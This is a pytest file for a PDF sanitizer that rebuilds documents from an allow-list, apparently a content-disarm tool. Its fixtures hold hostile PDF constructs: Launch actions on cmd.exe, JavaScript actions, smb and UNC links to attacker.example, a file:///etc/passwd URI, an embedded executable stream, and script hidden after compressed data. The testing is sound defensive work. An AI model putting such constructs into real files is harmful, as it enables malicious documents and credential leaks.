"""PDF rebuild by allow-list (issue 20): annotation subtypes, action types and the keys of every copied
dictionary are what the specification defines and the policy keeps; anything else goes, and is reported.
The two PDF examples of the issue come from samples/ (richmedia_damaged_subtype, launch_damaged_dict)."""
from __future__ import annotations

import io
import itertools
import subprocess
import warnings
from pathlib import Path

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from cdr.formats.pdf import allowlist
from cdr.fuzz import oracle
from cdr.pipeline import process
from samples.pdf_samples import _annot, _base, _js, _raw_pdf, _save
from tests.test_pdf import _deep_walk, _inspect, _policy


@pytest.fixture(scope="module")
def pdfs(corpus):
    base, samples = corpus("pdf")
    return base, {Path(p).stem: s for p, s in samples.items()}


def _run(tmp: Path, pdf: pikepdf.Pdf, name: str = "t.pdf", **opts):
    src = tmp / name
    src.write_bytes(_save(pdf))
    res = process(src, name, tmp / "out", _policy(**opts))
    assert res.output, (res.reason, res.threats)
    return res, Path(res.output)


def _clean_output(out: Path, tmp: Path) -> None:
    """No residual by the independent oracle, the engine's inspect or the full rule walk."""
    assert oracle.scan_file(out) == []
    assert _inspect(out, tmp) == []
    assert _deep_walk(out) == []


def _gray_at(path: Path, tmp: Path, x: float, y: float) -> int:
    """Grey level at PDF point (x, y) of page 1, rendered at 72 dpi."""
    from PIL import Image

    subprocess.run(["pdftoppm", "-r", "72", "-png", "-f", "1", "-l", "1", str(path), str(tmp / path.stem)],
                   check=True, capture_output=True, timeout=60)
    (png,) = tmp.glob(f"{path.stem}-*.png")
    with Image.open(png) as im:
        return im.convert("L").getpixel((int(x), im.height - int(y)))


# ---- the examples ------------------------------------------------------------------------
def test_damaged_richmedia_subtype_goes_and_its_poster_stays(pdfs, tmp_path):
    base, samples = pdfs
    src = base / samples["richmedia_damaged_subtype"].path
    res = process(src, src.name, tmp_path / "out", _policy())
    assert res.verdict == "sanitized", res.reason
    hit = [t for t in res.threats if t.id == "pdf.other_annotation"]
    assert len(hit) == 1 and "RichMedja" in hit[0].detail and "page content" in hit[0].detail
    out = Path(res.output)
    raw = out.read_bytes()
    assert b"RichMedia" not in raw and b"RichMedja" not in raw and b"FWS" not in raw
    with pikepdf.open(out) as pdf:
        assert "/Annots" not in pdf.pages[0].obj or len(pdf.pages[0].Annots) == 0
    _clean_output(out, tmp_path)
    # The poster (a grey box) is drawn where the annotation was; outside it the page is unchanged.
    assert 140 <= _gray_at(out, tmp_path, 70, 310) <= 170
    assert _gray_at(out, tmp_path, 300, 200) == 255


def test_launch_keys_left_in_the_annotation_by_repair_go(pdfs, tmp_path):
    base, samples = pdfs
    src = base / samples["launch_damaged_dict"].path
    with pikepdf.open(src) as pdf:  # what qpdf's repair makes of it: the action's keys in the annotation
        assert {"/Launch", "/Win"} <= set(pdf.pages[0].Annots[0].keys())
    res = process(src, src.name, tmp_path / "out", _policy())
    assert res.verdict == "sanitized", res.reason
    (unknown,) = [t for t in res.threats if t.id == "pdf.unknown_key"]
    assert unknown.action == "removed" and unknown.detail.startswith("4 key(s)")
    assert "Annot /Win" in unknown.detail and "Annot /Launch" in unknown.detail
    out = Path(res.output)
    raw = out.read_bytes()
    assert b"cmd.exe" not in raw and b"calc" not in raw and b"/Win" not in raw
    with pikepdf.open(out) as pdf:
        (link,) = pdf.pages[0].Annots
        assert set(link.keys()) == {"/Type", "/Subtype", "/Rect", "/Border"}
    _clean_output(out, tmp_path)


# ---- actions --------------------------------------------------------------------------------------
DROPPED_ACTIONS = {
    "GoToR": Dictionary(S=Name.GoToR, F=String("x.pdf"), D=Array([0, Name.Fit])),
    "Launch": Dictionary(S=Name.Launch, F=String("cmd.exe")),
    "JavaScript": Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")),
    "ImportData": Dictionary(S=Name.ImportData, F=String("a.fdf")),
    "Movie": Dictionary(S=Name.Movie, T=String("m")),
    "Sound": Dictionary(S=Name.Sound),
    "RichMediaExecute": Dictionary(S=Name.RichMediaExecute),
    "SubmitForm": Dictionary(S=Name.SubmitForm, F=String("http://203.0.113.9/")),
    "ResetForm": Dictionary(S=Name.ResetForm),
    "Hide": Dictionary(S=Name.Hide, T=String("f")),
    "GoToE": Dictionary(S=Name.GoToE, D=Array([0, Name.Fit])),
    "SetOCGState": Dictionary(S=Name.SetOCGState, State=Array([Name.OFF])),
    "Rendition": Dictionary(S=Name.Rendition, OP=0),
    "Trans": Dictionary(S=Name.Trans),
    "GoTo3DView": Dictionary(S=Name.GoTo3DView),
    "Named Print": Dictionary(S=Name.Named, N=Name.Print),
    "damaged type": Dictionary(S=Name("/G#6Fto"), D=Array([0, Name.Fit])),
    "no type": Dictionary(D=Array([0, Name.Fit])),
    "file: URI": Dictionary(S=Name.URI, URI=String("file:///C:/Windows/System32/calc.exe")),
    "UNC URI": Dictionary(S=Name.URI, URI=String("\\\\attacker.example\\share\\a.pdf")),
    "javascript: URI": Dictionary(S=Name.URI, URI=String("javascript:app.alert(1)")),
    "data: URI": Dictionary(S=Name.URI, URI=String("data:text/html,<script>alert(1)</script>")),
    "smb: URI": Dictionary(S=Name.URI, URI=String("smb://attacker.example/s")),
    "URI as a name": Dictionary(S=Name.URI, URI=Name("/http:")),
}
KEPT_ACTIONS = {
    "https": ("/URI", String("https://www.example.lg.jp/")),
    "http": ("/URI", String("http://www.example.lg.jp/a?b=1")),
    "mailto": ("/URI", String("mailto:info@example.lg.jp")),
    "NextPage": ("/N", Name.NextPage), "PrevPage": ("/N", Name.PrevPage),
    "FirstPage": ("/N", Name.FirstPage), "LastPage": ("/N", Name.LastPage),
}


def test_only_goto_web_uri_and_navigation_actions_stay(tmp_path):
    pdf = _base()
    for i, act in enumerate(DROPPED_ACTIONS.values()):
        _annot(pdf, Subtype=Name.Link, Rect=[10, 10 + 20 * i, 30, 25 + 20 * i], A=pdf.make_indirect(act))
    for key, value in KEPT_ACTIONS.values():
        s = Name.URI if key == "/URI" else Name.Named
        _annot(pdf, Subtype=Name.Link, Rect=[100, 10, 120, 30], A=Dictionary({"/S": s, key: value}))
    _annot(pdf, Subtype=Name.Link, Rect=[100, 40, 120, 60],
           A=Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.XYZ, 0, 800, 0]),
                        Next=Array([Dictionary(S=Name.Named, N=Name.NextPage), _js(pdf)])))
    res, out = _run(tmp_path, pdf)
    assert res.verdict == "sanitized"
    with pikepdf.open(out) as new:
        annots = list(new.pages[0].Annots)
        assert len(annots) == len(DROPPED_ACTIONS) + len(KEPT_ACTIONS) + 1  # links stay, without their action
        acts = [a.A for a in annots if "/A" in a]
        kept = sorted(str(a.get("/URI", a.get("/N"))) for a in acts if a.S != Name.GoTo)
        assert kept == sorted(str(v) for _, v in KEPT_ACTIONS.values())
        (goto,) = [a for a in acts if a.S == Name.GoTo]
        assert [x.N for x in goto.Next] == [Name.NextPage]  # the JavaScript in the chain is gone
    ids = {t.id for t in res.threats}
    assert {"pdf.remote_goto", "pdf.launch", "pdf.javascript", "pdf.import_data", "pdf.rich_media", "pdf.submit_form",
            "pdf.other_action", "pdf.named_action", "pdf.uri"} <= ids
    assert sum(t.id == "pdf.other_action" for t in res.threats) >= 6  # ResetForm Hide SetOCGState Trans, damaged
    _clean_output(out, tmp_path)


def test_links_drop_policy_drops_every_uri_but_keeps_navigation(tmp_path):
    pdf = _base()
    _annot(pdf, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://www.example.lg.jp/")))
    _annot(pdf, Subtype=Name.Link, A=Dictionary(S=Name.Named, N=Name.NextPage))
    res, out = _run(tmp_path, pdf, links="drop")
    with pikepdf.open(out) as new:
        assert [str(a.A.S) for a in new.pages[0].Annots if "/A" in a] == ["/Named"]
    assert "pdf.uri" in {t.id for t in res.threats}


# ---- annotations -------------------------------------------------------------------------------------
def _appearance(pdf: pikepdf.Pdf, gray: float = 0.5) -> pikepdf.Stream:
    return pdf.make_stream(f"{gray} g 0 0 10 10 re f".encode(), BBox=[0, 0, 10, 10], Subtype=Name.Form)


def test_annotation_subtypes_outside_the_list_go_visible_ones_flattened(tmp_path):
    pdf = _base()
    keep = ["/Text", "/Link", "/FreeText", "/Line", "/Square", "/Circle", "/Polygon", "/PolyLine", "/Highlight",
            "/Underline", "/Squiggly", "/StrikeOut", "/Caret", "/Ink", "/Stamp", "/Popup", "/Widget"]
    for i, sub in enumerate(keep):
        a = _annot(pdf, Subtype=Name(sub), Rect=[10 + 20 * i, 10, 25 + 20 * i, 25])
        if sub == "/Widget":
            a.FT, a.T = Name.Tx, String("field")
            pdf.Root.AcroForm = Dictionary(Fields=Array([a]))
    _annot(pdf, Subtype=Name.Watermark, Rect=[100, 400, 200, 500], AP=Dictionary(N=_appearance(pdf)))
    _annot(pdf, Subtype=Name.Screen, Rect=[300, 400, 400, 500])  # nothing to show
    _annot(pdf, Subtype=Name("/Foo"), Rect=[300, 300, 400, 350], F=2, AP=Dictionary(N=_appearance(pdf)))  # hidden
    _annot(pdf, Subtype=Name.PrinterMark, Rect=[100, 200, 200, 300], AS=Name.On,
           AP=Dictionary(N=Dictionary(On=_appearance(pdf, 0.2), Off=_appearance(pdf, 1))))
    res, out = _run(tmp_path, pdf)
    with pikepdf.open(out) as new:
        assert [str(a.Subtype) for a in new.pages[0].Annots] == keep
    other = {t.detail for t in res.threats if t.id == "pdf.other_annotation"}
    assert other == {"Watermark annotation not on the allow-list (its appearance kept as page content)",
                     "Foo annotation not on the allow-list",
                     "PrinterMark annotation not on the allow-list (its appearance kept as page content)"}
    assert any(t.id == "pdf.rich_media" and "Screen" in t.detail for t in res.threats)
    assert 120 <= _gray_at(out, tmp_path, 150, 450) <= 135  # 0.5 g, scaled from 10x10 to the 100x100 rect
    assert 45 <= _gray_at(out, tmp_path, 150, 250) <= 55  # the /On state
    assert _gray_at(out, tmp_path, 350, 320) == 255  # hidden: not drawn
    _clean_output(out, tmp_path)


def test_file_attachment_annotation_follows_the_embedded_files_policy(tmp_path):
    pdf = _base()
    spec = pikepdf.AttachedFileSpec(pdf, _save(_base()), filename="inner.pdf")  # a family _policy() accepts
    _annot(pdf, Subtype=Name.FileAttachment, FS=spec.obj, Contents=String("inner.pdf"))
    res, out = _run(tmp_path, pdf)
    with pikepdf.open(out) as new:
        assert "/Annots" not in new.pages[0].obj or len(new.pages[0].Annots) == 0
    assert "pdf.embedded_file" in {t.id for t in res.threats}
    (tmp_path / "s").mkdir()
    res, out = _run(tmp_path / "s", pdf, embedded_files="sanitize")
    assert [c.verdict for c in res.children] == ["clean"]
    with pikepdf.open(out) as new:
        assert [str(a.Subtype) for a in new.pages[0].Annots] == ["/FileAttachment"]
        assert new.pages[0].Annots[0].FS.EF.F.read_bytes().startswith(b"%PDF-")


# ---- keys and value types -----------------------------------------------------------------------------
def test_unknown_keys_dropped_and_counted_once(tmp_path):
    pdf = _base()
    page = pdf.pages[0].obj
    page["/PrivateThing"] = Dictionary(X=1)
    page["/Rotate"] = String("90")  # a number in the specification
    font = next(iter(page.Resources.Font.values()))
    font["/Launch"] = Name.F
    font["/FontDescriptor"] = String("oops") if "/FontDescriptor" in font else String("x")
    _annot(pdf, Subtype=Name.Text, Contents=String("メモ"), Custom=Name.X, Open=True)
    res, out = _run(tmp_path, pdf)
    (unknown,) = [t for t in res.threats if t.id == "pdf.unknown_key"]
    assert unknown.location == "document" and unknown.detail.startswith("5 key(s)"), unknown.detail
    assert unknown.action == "removed"  # /Launch is one of them
    with pikepdf.open(out) as new:
        p = new.pages[0].obj
        assert "/PrivateThing" not in p and "/Rotate" not in p
        f = next(iter(p.Resources.Font.values()))
        assert "/Launch" not in f and "/FontDescriptor" not in f
        (text,) = p.Annots
        assert set(text.keys()) == {"/Type", "/Subtype", "/Rect", "/Contents", "/Open"}
    _clean_output(out, tmp_path)


def test_names_are_compared_after_hex_decoding(tmp_path):
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R 5 0 R] >>",
            b"<< /Type /Annot /Subtype /L#69nk /Rect [0 0 9 9] /A << /S /G#6FTo /D [3 0 R /Fit] >> >>",
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /L#61unch /F (cmd.exe) >> /W#69n 1 >>"]
    src = tmp_path / "hex.pdf"
    src.write_bytes(_raw_pdf(objs))
    res = process(src, src.name, tmp_path / "out", _policy())
    assert "pdf.launch" in {t.id for t in res.threats}
    with pikepdf.open(res.output) as new:
        a, b = new.pages[0].Annots
        assert a.Subtype == Name.Link and a.A.S == Name.GoTo
        assert set(b.keys()) == {"/Type", "/Subtype", "/Rect"}


def test_benign_private_keys_are_a_note_not_a_removal(tmp_path):
    pdf = _base()
    pdf.pages[0].obj["/PTEX.PageNumber"] = 1
    res, out = _run(tmp_path, pdf)
    assert res.verdict == "clean"
    (unknown,) = [t for t in res.threats if t.id == "pdf.unknown_key"]
    assert unknown.action == "reported" and "Page /PTEX.PageNumber" in unknown.detail


def test_tables_are_well_formed():
    kinds = set("nsibadS")
    for table in [*allowlist.TABLES.values(), *allowlist.ANNOTS.values(), *allowlist.ACTIONS.values(),
                  *allowlist.FONTS.values()]:
        for key, (k, child) in table.items():
            assert key.startswith("/") and k and set(k) <= kinds, key
            assert child is None or child == "*" or child.split(":")[-1] in (
                *allowlist.TABLES, "Pages", "PageNode", "Page", "Annot", "Field", "Font", "XObject", "Action",
                "OpenAction", "Dest", "APState", "Form"), (key, child)


def test_damaged_names_neither_block_nor_stay(tmp_path):
    """Keys and names that are not UTF-8 (pikepdf cannot hand them over) go without blocking the file, and a
    name a lenient tokenizer ends early (/Win!nsiEncoding read as /Win) is judged by that head too."""
    objs = [b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /DA null >> >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /F#e9x 1 /Tabs /A#94"
            b" /Resources << /Font << /F1 4 0 R >> >> >>",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /Win!nsiEncoding >>"]
    src = tmp_path / "names.pdf"
    src.write_bytes(_raw_pdf(objs))
    res = process(src, src.name, tmp_path / "out", _policy())
    assert res.verdict == "sanitized", (res.reason, res.threats)
    (unknown,) = [t for t in res.threats if t.id == "pdf.unknown_key"]
    assert "undecodable key or name" in unknown.detail and "Font /Encoding" in unknown.detail
    assert oracle.scan_file(Path(res.output)) == []


def test_names_of_active_content_after_compressed_stream_data_go(tmp_path):
    """A JavaScript action's text after the end of a content stream's Flate data (readers stop at the end):
    cut off, the drawing kept."""
    import zlib

    pdf = _base()
    content = pdf.pages[0].Contents.read_bytes() if "/Contents" in pdf.pages[0].obj else b""
    pdf.pages[0].obj.Contents = pdf.make_stream(b"")
    pdf.pages[0].obj.Contents.write(zlib.compress(content) + b"\n<< /S /JavaScript /JS (app.alert(1)) >>",
                                    filter=Name.FlateDecode)
    res, out = _run(tmp_path, pdf)
    assert any(t.id == "pdf.hidden_data" and "bytes after the end" in t.detail for t in res.threats), res.threats
    assert b"JavaScript" not in out.read_bytes()
    with pikepdf.open(out) as new:
        assert new.pages[0].Contents.read_bytes() == content
    _clean_output(out, tmp_path)


# ---- every object written was reached and typed (fuzz case pdf/640799781343 and its class) ------------------
def test_arrays_of_values_and_untyped_values_keep_no_active_content(tmp_path):
    """What the tables take as values (a box, widths, a dash pattern, a stream's /DecodeParms, an /RC stream,
    a destination, a name tree's keys) is checked too: the fuzzer's duplicated span put a RichMedia
    annotation's keys and dictionaries inside a CIDFont's /W array, and the rebuild copied them unread."""
    pdf = _base()
    page = pdf.pages[0].obj
    rich = Dictionary(Assets=Dictionary(Names=Array([String("a.swf"), Dictionary(
        Type=Name.Filespec, F=String("a.swf"), EF=Dictionary(F=pdf.make_stream(b"FWS\x09")))])))
    font = next(iter(page.Resources.Font.values()))
    font.Widths = Array([500, Array([250, Name.RichMediaSettings, Dictionary(JS=String("app.alert(1)"))])])
    page.Contents.DecodeParms = Dictionary(Predictor=1, AA=Dictionary(O=_js(pdf)))
    note = _annot(pdf, Subtype=Name.Text, Contents=String("メモ"), C=Array([1, 0, 0, Name.RichMediaContent, rich]))
    note.RC = pdf.make_stream(b"<body>x</body>", AA=Dictionary(O=_js(pdf)))
    _annot(pdf, Subtype=Name.Link, Rect=[10, 10, 40, 40], Dest=Array([page, Name.Launch, Name.XYZ, 0, 0, 0]))
    pdf.Root.Names = Dictionary(Dests=Dictionary(Names=Array([
        String("ok"), Array([page, Name.Fit]), Name.JavaScript, Array([page, Name.Fit])])))
    res, out = _run(tmp_path, pdf)
    assert res.verdict == "sanitized", res.reason
    (unknown,) = [t for t in res.threats if t.id == "pdf.unknown_key"]
    assert unknown.action == "removed", unknown.detail
    raw = out.read_bytes()
    for gone in (b"RichMedia", b"FWS", b"app.alert", b"/AA", b"/Launch", b"/JavaScript"):
        assert gone not in raw, gone
    with pikepdf.open(out) as new:
        p = new.pages[0].obj
        assert list(p.Annots[0].C) == [1, 0, 0] and "/RC" in p.Annots[0]
        assert list(next(iter(p.Resources.Font.values())).Widths) == [500, [250]]
        assert list(new.Root.Names.Dests.Names)[0] == "ok"
    _clean_output(out, tmp_path)


def test_tagged_pages_and_annotations_get_their_tables(tmp_path):
    """The structure tree (walked generically) reaches pages through /Pg and annotations through /Obj;
    they are still typed as pages and annotations, whichever the walk meets first."""
    pdf = _base()
    page = pdf.pages[0].obj
    page.PrivatePageThing = Dictionary(X=String("x"))
    link = _annot(pdf, Subtype=Name.Link, Rect=[10, 10, 50, 50], PrivateAnnotThing=String("y"))
    elem = pdf.make_indirect(Dictionary(Type=Name.StructElem, S=Name.Link, Pg=page,
                                        K=Array([Dictionary(Type=Name.OBJR, Obj=link, Pg=page)])))
    pdf.Root.StructTreeRoot = pdf.make_indirect(Dictionary(Type=Name.StructTreeRoot, K=Array([elem])))
    res, out = _run(tmp_path, pdf)
    (unknown,) = [t for t in res.threats if t.id == "pdf.unknown_key"]
    assert "Page /PrivatePageThing" in unknown.detail and "Annot /PrivateAnnotThing" in unknown.detail
    with pikepdf.open(out) as new:
        assert "/PrivatePageThing" not in new.pages[0].obj
        assert set(new.pages[0].Annots[0].keys()) == {"/Type", "/Subtype", "/Rect"}
        assert new.Root.StructTreeRoot.K[0].K[0].Obj.objgen == new.pages[0].Annots[0].objgen


def _reachable(pdf: pikepdf.Pdf) -> set[tuple[int, int]]:
    """The indirect objects a writer would write: those reached from the trailer."""
    seen: set[tuple[int, int]] = set()
    stack = [pdf.trailer]
    while stack:
        o = stack.pop()
        if o.is_indirect:
            if o.objgen in seen:
                continue
            seen.add(o.objgen)
        try:
            values = list(o) if isinstance(o, pikepdf.Array) else [o.get(k) for k in o.keys()]
        except (TypeError, ValueError, UnicodeError):
            continue
        stack.extend(v for v in values if isinstance(v, (pikepdf.Array, pikepdf.Dictionary, pikepdf.Stream)))
    return seen


def test_the_walk_reaches_every_object_written(pdfs):
    """The sweep empties indirect objects the walk never reached; none of them is one the output still
    references (that would be a gap in the walk), for every PDF sample and every PDF fuzz case."""
    from cdr.formats.pdf import _copy_catalog

    base, samples = pdfs
    files = [(base / s.path, s.password) for s in samples.values()]
    files += [(p, None) for p in sorted((Path(__file__).parent / "fuzz_regressions" / "pdf").glob("*.bin"))]
    checked = 0
    for path, password in files:
        try:
            src = pikepdf.open(path, password=password or "")
        except (pikepdf.PdfError, pikepdf.PasswordError):
            continue
        with src, pikepdf.new() as new, warnings.catch_warnings():
            warnings.simplefilter("ignore", pikepdf.PageCopyWarning)
            if len(src.pages) == 0 or len(src.pages) > 50:
                continue
            new.pages.extend(src.pages)
            try:
                _copy_catalog(src, new, {"links": "web", "embedded_files": "drop"}, None)
            except RuntimeError:  # qpdf cannot follow a damaged object: the rebuild blocks the file
                continue
            walk = allowlist.AllowList(new, labels=dict)
            walk.run()
            assert not set(walk.unreached) & _reachable(new), path.name
            checked += 1
    assert checked > 40


def test_rules_of_the_rule_walk_apply_in_dictionaries_walked_generically(tmp_path):
    """The rebuild no longer runs the rule walk after the allow-list: under dictionaries no table is kept for
    (a page's /PieceInfo, /Group), an action by any key, associated files outside the document, a stream's
    outside file and attachments go by its rules, and the verify step (that walk) finds nothing."""
    pdf = _base()
    page = pdf.pages[0].obj
    page.Group = Dictionary(S=Name.Transparency, Odd=Dictionary(S=Name.URI, URI=String("file:///etc/passwd")))
    exe = pdf.make_stream(b"MZ" + bytes(64), Type=Name.EmbeddedFile)
    page.PieceInfo = Dictionary(App=Dictionary(
        Private=Dictionary(S=Name.Named, N=Name.Print),
        Remote=pdf.make_stream(b"x", F=String("\\\\203.0.113.9\\share\\x.bin")),
        Spec=Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=exe)),
        Loose=exe))
    page.AF = Array([Dictionary(Type=Name.Filespec, F=String("outside.docx"))])
    res, out = _run(tmp_path, pdf)
    assert res.verdict == "sanitized", (res.reason, res.threats)
    assert {"pdf.uri", "pdf.named_action", "pdf.external_ref", "pdf.embedded_file"} <= {t.id for t in res.threats}
    assert b"MZ" + bytes(64) not in out.read_bytes() and b"203.0.113.9" not in out.read_bytes()
    _clean_output(out, tmp_path)
    (tmp_path / "s").mkdir()
    res, out = _run(tmp_path / "s", pdf, embedded_files="sanitize")
    assert res.verdict == "sanitized", (res.reason, res.threats)
    assert [c.verdict for c in res.children] == ["blocked"]  # the .exe, reached through its specification
    assert b"MZ" + bytes(64) not in out.read_bytes()
    assert _inspect(out, tmp_path, _policy(embedded_files="sanitize")) == []


def test_inspect_reports_what_the_allow_list_would_drop(pdfs, tmp_path):
    """`cdr inspect` (pipeline.inspect) lists the allow-list's own findings besides the rule walk's: the
    damaged Launch dictionary's keys as unknown keys, the damaged RichMedia subtype as another annotation."""
    from cdr.pipeline import inspect

    base, samples = pdfs
    got = {}
    for name in ("launch_damaged_dict", "richmedia_damaged_subtype", "japanese_1page"):
        src = base / samples[name].path
        got[name] = {t["id"]: t for t in inspect(src, src.name, _policy())["threats"]}
    unknown = got["launch_damaged_dict"]["pdf.unknown_key"]
    assert unknown["action"] == "found" and unknown["detail"].startswith("4 key(s)"), unknown
    assert got["richmedia_damaged_subtype"]["pdf.other_annotation"]["action"] == "found"
    assert not {"pdf.unknown_key", "pdf.other_annotation", "pdf.other_action"} & set(got["japanese_1page"])


def test_strings_holding_the_text_of_active_content_go(tmp_path):
    """Fuzz case pdf/0139a6879654: damage ran a font's /Registry string on into the text of an incremental
    update ("... /OpenAction 9 0 R >> ... << /S /JavaScript /JS (app.alert ...) >>"). No reader runs a string, but
    a lenient parser or a byte scanner downstream reads those names: such a string goes, wherever it is."""
    pdf = _base()
    text = String("x) >>\nendobj\n9 0 obj\n<< /S /JavaScript /JS (app.alert(1)")
    _annot(pdf, Subtype=Name.Text, Contents=text, T=String("山田"))
    page = pdf.pages[0].obj
    page.PieceInfo = Dictionary(App=Dictionary(Private=text, List=Array([String("ok"), text])))
    pdf.Root.Names = Dictionary(Dests=Dictionary(Names=Array([text, Array([page, Name.Fit])])))
    res, out = _run(tmp_path, pdf)
    assert res.verdict == "sanitized", res.reason
    assert "pdf.hidden_data" in {t.id for t in res.threats}
    assert b"JavaScript" not in out.read_bytes() and b"app.alert" not in out.read_bytes()
    with pikepdf.open(out) as new:
        (note,) = new.pages[0].Annots
        assert "/Contents" not in note and str(note.T) == "山田"
        assert list(new.pages[0].obj.PieceInfo.App.List) == ["ok"]
    _clean_output(out, tmp_path)


# Entries set in the dictionaries the allow-list reads from their text (_to_check): names plain, #xx-escaped
# and of active content, strings with and without "/" (literal and hex, UTF-16), numbers, booleans, arrays of
# numbers and of anything else, references, dictionaries (nested once and twice), keys the table has not,
# null, and values of the wrong kind.
_CRAFTED = [b"/S /JavaScript", b"/Foo (a/JS b)", b"/Contents (x/Launch y)", b"/Contents <2f4a53>", b"/Contents <0102f0>", b"/Contents <012f4a53>",
            b"/Contents <feff002f004a0053>", b"/T (a\\) /JS)", b"/NM (\\057JS)", b"/Subj (ok)", b"/Rect [ 1 [ 2 ] ]",
            b"/Rect [ 1 /JS ]", b"/Rect [ 1 (x) ]", b"/Rect [ ]", b"/F true", b"/Open null", b"/N /a#20b", b"/Name /J#53",
            b"/Name /JavaScript", b"/Name /Note", b"/AA", b"/Annots [ 1 2 ]", b"/S /Q", b"/S /D", b"/M .5",
            b"/CA -.0", b"/Subtype /Link", b"/Type /Page", b"/Border [ 0 0 1 ]", b"/Lang <e9>", b"/Rotate /R",
            b"/Count (1)", b"/AS /Off", b"/URI (http://x/JavaScript)", b"/Kids", b"/AF [ ]", b"/EF << >>",
            b"/FontName /Launch", b"/Flags 1.5", b"/StemV true", b"/St 3", b"/P (x/JS)", b"/CA (/JS)", b"/R 90",
            b"/TP /x", b"/Win /x", b"/Popup", b"/V (v/JS)", b"/DA (/Helv 0 Tf)", b"/x#2Fy 1", b"/Key /", b"/ 1",
            b"/BS << /W 1 /S /D >>", b"/BS << /W 1 /S /JavaScript >>", b"/MK << /CA (a >> /JS) /BG [ 1 ] >>",
            b"/A << /S /JavaScript /JS (app.alert(1)) >>", b"/A << /S /URI /URI (https://example.jp/) >>",
            b"/AP << /N << >> >>", b"/AP << /D [ 1 (x) ] >>", b"/IRT << /Type /Annot >>",
            b"/Rect [ 1 [ 2 ] /JS [ 3 ] ]", b"/Border [ 0 0 1 [ 3 2 ] ]", b"/QuadPoints [ [ [ 1 ] ] ]",
            b"/Rect [ 1 0 /Launch 1 ]", b"/C [ 1 true ]", b"/CA 1" + b"0" * 400 + b".5",
            b"/MK"]  # many references, and a dictionary nested twice (once tried in 2**n ways before giving up)


def _fast_and_slow(data: bytes, monkeypatch) -> list[tuple[bytes, list]]:
    """The allow-list's output and report with the dictionaries read from their text, and entry by entry."""
    outs = []
    for by_text in (True, False):
        with monkeypatch.context() as m:
            if not by_text:
                m.setattr(allowlist, "_BY_TEXT", set())
            else:  # with the one-match patterns (made after _COMPILE_AFTER uses otherwise)
                m.setattr(allowlist, "_COMPILE_AFTER", 1)
            with pikepdf.open(io.BytesIO(data)) as pdf:
                threats = allowlist.apply(pdf, links="web", embedded="drop", labels=dict)
                buf = io.BytesIO()
                pdf.save(buf, static_id=True)
        outs.append((buf.getvalue(), [(t.id, t.location, t.action, t.detail) for t in threats]))
    return outs


def test_dictionaries_read_from_their_text_are_judged_as_entry_by_entry(monkeypatch):
    """The annotations, fields, font descriptors, page labels and appearance characteristics are read from
    their text (one call into qpdf) and only the entries that need it are fetched: the output and the report
    are those of the entry-by-entry walk, whatever entry the dictionary holds."""
    from samples.pdf_samples import _bookmarks_pdf, _comments_pdf, _form_pdf

    seeds = [_comments_pdf(), _form_pdf(), _bookmarks_pdf()]
    checked = 0
    for entry, seed in itertools.product(_CRAFTED, seeds):
        with pikepdf.open(io.BytesIO(seed)) as pdf:
            targets = [a for a in pdf.pages[0].obj.get("/Annots", [])]
            targets += [a.MK for a in targets if "/MK" in a]
            labels = pdf.Root.get("/PageLabels")
            targets += [x for x in labels.Nums if isinstance(x, Dictionary)] if labels is not None else []
            page = pdf.pages[0].obj
            refs = {b"/AA": Dictionary(O=_js(pdf)), b"/Kids": Array([page]), b"/Popup": page,
                    b"/MK": Dictionary({**{f"/K{i}": page for i in range(40)}, "/Z": Dictionary()})}
            for t in targets:
                if entry in refs:  # a reference: parsing needs a document
                    t[entry.decode()] = refs[entry]
                    continue
                for key, v in pikepdf.Object.parse(b"<< " + entry + b" >>").items():
                    if v is not None:
                        t[key] = v
            data = _save(pdf)
        fast, slow = _fast_and_slow(data, monkeypatch)
        assert fast == slow, entry
        checked += 1
    assert checked == len(_CRAFTED) * len(seeds)


def test_one_match_of_a_dictionary_finds_the_keys_entry_by_entry_does(monkeypatch):
    """_check_keys reads most dictionaries with one match of a pattern made for their table (entries kept as
    they are, and references); the keys it gives to fetch are those the entry-by-entry reading gives (or
    both read every entry), for any mix of the crafted entries and of references."""
    import random

    entries = [e for e in _CRAFTED if b" " in e] + [b"/Popup 5 0 R", b"/P 3 0 R", b"/AP 9 0 R", b"/X 1 0 R",
                                                    b"/ 2 0 R", b"/Contents (a 1 0 R b)", b"/K /", b"/Name /Note"]
    rng = random.Random(1)
    texts = {b"<< >>"}
    for _ in range(3000):
        picked = {e.split(b" ", 1)[0]: e for e in rng.sample(entries, rng.randrange(1, 8))}  # one value per key
        texts.add(b"<< " + b"".join(picked[k] + b" " for k in sorted(picked)) + b">>")
    tables = list({id(t): t for t in (*allowlist.ANNOTS.values(), allowlist.ANNOT, allowlist.FIELD,
                                      allowlist.FONT_DESCRIPTOR, allowlist.PAGE_LABEL, allowlist.MK)}.values())
    monkeypatch.setattr(allowlist, "_COMPILE_AFTER", 1)  # the patterns made at once, not after 200 uses
    by_match = with_refs = 0
    with pikepdf.new() as pdf:
        for embedded in ("drop", "sanitize"):
            walk = allowlist.AllowList(pdf, embedded=embedded)
            for table, text in itertools.product(tables, sorted(texts)):
                assert walk._check_keys(text, table) == walk._check_entries(text, table), (text, embedded)
                pattern = walk._tiled[id(table)]
                matched = pattern is not None and pattern.fullmatch(text) is not None
                by_match += matched
                with_refs += matched and b" R " in text
    assert by_match > 1000 and with_refs > 300  # the one match decided many of them, references included
